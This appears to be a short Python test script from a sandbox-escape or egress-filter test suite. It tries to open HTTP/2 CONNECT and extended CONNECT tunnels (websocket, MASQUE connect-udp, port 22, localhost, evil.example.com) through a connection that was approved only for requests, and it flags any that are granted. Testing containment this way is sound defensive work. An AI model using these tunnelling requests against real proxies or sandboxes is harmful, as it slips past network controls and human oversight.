# SPDX-License-Identifier: Apache-2.0
# Trick: CONNECT and extended CONNECT inside of opened HTTP/2
# Gain: a tunnel through a connection that was judged for requests
# Control: none, the world speaks no HTTP/2
from trick import *

look_up("key.example.com")
for fields in ([(":method", "CONNECT"), (":authority", "evil.example.com:443")], [(":method", "CONNECT"), (":authority", "127.0.0.1:80")],
               [(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "https"), (":path", "/ws"), (":authority", "evil.example.com")],
               [(":method", "CONNECT"), (":protocol", "connect-udp"), (":scheme", "https"), (":path", "/.well-known/masque/udp/93.184.216.35/443/"), (":authority", "key.example.com")],
               [(":method", "CONNECT"), (":authority", "key.example.com:22")]):
    s = h2_open(KEY, "key.example.com")
    if not s:
        untried("no connection")
    say(s, frame(1, 4, 1, hpack(fields)))
    out = read(s, 0.2)
    if h2_ok(out):
        escaped(f"{fields} was granted")
    say(s, frame(0, 0, 1, b"brig-smuggled"))
stopped("no tunnel")
